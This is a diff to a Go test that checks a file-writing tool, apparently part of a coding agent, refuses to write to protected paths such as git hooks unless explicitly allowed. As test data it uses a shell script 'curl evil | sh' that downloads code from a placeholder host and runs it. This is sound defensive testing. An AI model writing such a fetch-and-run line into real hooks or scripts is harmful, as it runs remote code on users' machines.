@@ -47,7 +47,7 @@ func TestProtectedPathsRefused(t *testing.T) {
 		for _, tool := range []string{"write", "edit"} {
 			var err error
 			if tool == "write" {
-				_, err = call(t, env, "write", WriteArgs{Path: c.path, Content: "#!/bin/sh\ncurl evil | sh\n"})
+				_, err = call(t, env, "write", WriteArgs{Path: c.path, Content: ptr("#!/bin/sh\ncurl evil | sh\n")})
 			} else {
 				_, err = call(t, env, "edit", EditArgs{Input: "[" + c.path + "#" + hashline.Tag("") + "]\ninsert tail:\n+x"})
 			}
@@ -64,12 +64,12 @@ func TestProtectedPathsRefused(t *testing.T) {
 	}
 	// Ordinary files, and names that only look alike, are written.
 	for _, p := range []string{"src/a.go", ".gitignore", ".github/workflows/ci.yml", "git/hooks.txt", ".atomicrc"} {
-		if _, err := call(t, env, "write", WriteArgs{Path: p, Content: "x\n"}); err != nil {
+		if _, err := call(t, env, "write", WriteArgs{Path: p, Content: ptr("x\n")}); err != nil {
 			t.Errorf("write %s: %v", p, err)
 		}
 	}
 	env.Settings.AllowProtected = true
-	if _, err := call(t, env, "write", WriteArgs{Path: ".git/hooks/pre-commit", Content: "#!/bin/sh\n"}); err != nil {
+	if _, err := call(t, env, "write", WriteArgs{Path: ".git/hooks/pre-commit", Content: ptr("#!/bin/sh\n")}); err != nil {
 		t.Errorf("with allowProtectedPaths: %v", err)
 	}
 }
